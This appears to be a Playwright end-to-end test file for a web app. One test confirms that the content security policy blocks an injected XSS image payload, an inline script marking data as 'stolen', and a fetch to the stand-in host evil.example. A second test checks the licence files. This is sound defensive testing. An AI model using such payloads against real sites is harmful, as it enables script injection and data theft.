import { expect, test } from "./fixtures.ts";

test("whatever a stranger gets into a page neither runs, nor is drawn, nor leaves it", async ({ browser, stack }) => {
  // The usual page fails a test on breaches of the content security policy. This test causes such breaches.
  const page = await browser.newPage();
  await page.goto(`${stack.url}/login`);
  const tries = await page.evaluate(async () => {
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
      document.documentElement.dataset.breaches = `${document.documentElement.dataset.breaches} ${effectiveDirective}`;
    });
    const isRefused = async (attempt: () => unknown) => {
      try {
        await attempt();
        return false;
      } catch {
        return true;
      }
    };
    const script = document.createElement("script");
    const markup = await isRefused(() => {
      document.body.innerHTML = "<img src=x onerror=alert(1)>";
    });
    const inline = await isRefused(() => {
      script.textContent = "globalThis.stolen = true";
      document.body.append(script);
    });
    const sent = await isRefused(() => fetch("https://evil.example/"));
    return { markup, inline, sent, ran: "stolen" in globalThis };
  });
  expect(tries).toEqual({ markup: true, inline: true, sent: true, ran: false });
  for (const directive of ["require-trusted-types-for", "connect-src"])
    await expect(page.locator("html")).toHaveAttribute("data-breaches", new RegExp(`\\b${directive}\\b`));
  await page.close();
});

test("the pages come with the licences of what they contain, parts of workers included", async ({ request, stack }) => {
  for (const [address, names] of [
    ["/licences.txt", ["react-relay", "pkijs", "@fontsource-variable/ibm-plex-sans"]],
    ["/explorer/licences.txt", ["graphiql", "monaco-editor"]],
  ] as const) {
    const text = await (await request.get(stack.url + address)).text();
    for (const name of names) expect(text).toMatch(new RegExp(`^# ${name} \\d`, "m"));
    expect(text).toContain("Permission is hereby granted, free of charge");
  }
});
